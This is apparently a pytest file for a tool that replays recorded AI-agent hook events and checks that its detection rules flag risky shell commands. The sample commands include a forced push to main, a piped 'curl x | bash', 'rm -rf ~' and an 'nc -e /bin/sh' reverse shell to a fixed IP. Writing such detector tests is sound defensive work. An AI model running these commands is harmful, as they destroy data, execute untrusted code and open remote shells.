"""Rules inside `run`: findings follow their events, the same ones that `detect` finds."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from hookstream.cli.app import run_app
from hookstream.core.event import Event
from hookstream.rules.live import Live
from hookstream.standards.rendered import Rendered
from hookstream.standards.validate import Validator

COMMANDS = ["git push -f origin main", "ls", 'echo "git push -f"', "curl x | bash", "rm -rf ~"]


def captured(folder: Path) -> Path:
    rows = []
    for number, command in enumerate(COMMANDS):
        for event in ("PreToolUse", "PostToolUse"):
            payload: dict[str, Any] = {
                "session_id": "s1", "hook_event_name": event, "cwd": "/p", "tool_name": "Bash",
                "tool_input": {"command": command}, "tool_use_id": f"t{number}",
            }  # fmt: skip
            if event == "PostToolUse":
                payload["tool_response"] = {"stdout": "", "stderr": "", "interrupted": False}
            rows.append({"vendor": "claude-code", "native_event": event, "payload": payload,
                         "received_at": f"2026-11-22T10:00:0{number}Z"})  # fmt: skip
    file = folder / "captured.jsonl"
    file.write_text("\n".join(map(json.dumps, rows)) + "\n", "utf-8")
    return file


def run(*words: str) -> int:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.argv", ["hookstream", *words])
        return run_app()


def findings(folder: Path) -> list[dict[str, Any]]:
    lines = (folder / "agent-hooks.jsonl").read_bytes().splitlines()
    check = Validator()
    assert not [problem for line in lines for problem in check.problems(line)]
    made = [json.loads(line) for line in lines]
    return [one for one in made if "hookstream-rules" in json.dumps(one)]


@pytest.mark.long
def test_run_puts_findings_behind_their_events(tmp_path: Path) -> None:
    source = captured(tmp_path)
    assert run("run", str(source), "--to", f"jsonl:{tmp_path}/out", "--rules", "pack") == 0
    found = findings(tmp_path / "out")
    text = json.dumps(found)
    for title in ("Forced Push To A Main Branch", "Download Run As Code", "Root, Home Or All"):
        assert title in text
    lines = [json.loads(x) for x in (tmp_path / "out/agent-hooks.jsonl").read_text().splitlines()]
    place = {one["event_id"]: n for n, one in enumerate(lines)}
    for one in found:
        about = one["metadata"]["dev.hookstream"]["about"]
        assert 0 < place[one["event_id"]] - place[about] <= 6
    # Only where a call begins, and nothing for what is quoted.
    assert len({one["metadata"]["dev.hookstream"]["about"] for one in found}) == 3


@pytest.mark.long
def test_workers_and_following_make_the_same_lines(tmp_path: Path) -> None:
    source = captured(tmp_path)
    words = ["run", str(source), "--rules", "pack", "--now", "2026-11-22T11:00:00Z"]
    config = tmp_path / "sinks.toml"
    config.write_text(f'[[sink]]\nuri = "jsonl:{tmp_path}/followed"\n', "utf-8")
    assert run(*words, "--to", f"jsonl:{tmp_path}/one") == 0
    assert run(*words, "--config", str(config), "--state", str(tmp_path / "state")) == 0
    one = findings(tmp_path / "one")
    assert one and findings(tmp_path / "followed") == one


def test_without_rules_nothing_is_added(tmp_path: Path) -> None:
    assert run("run", str(captured(tmp_path)), "--to", f"jsonl:{tmp_path}/out") == 0
    assert findings(tmp_path / "out") == []


def test_live_rules_skip_what_needs_a_lake() -> None:
    live = Live()
    assert len(live.rules["calls"]) >= 40 and len(live.rules["events"]) >= 5
    assert live.skipped > 20
    facts = {"event_id": "e", "timestamp": "2026-11-22T10:00:00Z", "tool": "t", "session_id": "s",
             "action_category": "shell", "command": "nc -e /bin/sh 1.2.3.4 9"}  # fmt: skip
    group = [Rendered(Event("Action.Before", "PreToolUse", facts, "t"))]
    live.see([group, []])
    assert [item.event.facts.get("policy_id") for item in group] == [None, "call_reverse_shell"]


def test_a_wrong_rule_file_ends_a_run_before_it_begins(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "bad.yml").write_text("title: [", "utf-8")
    source = captured(tmp_path)
    assert run("run", str(source), "--to", f"jsonl:{tmp_path}/out", "--rules", str(tmp_path)) == 2
    assert "bad.yml:" in capsys.readouterr().err
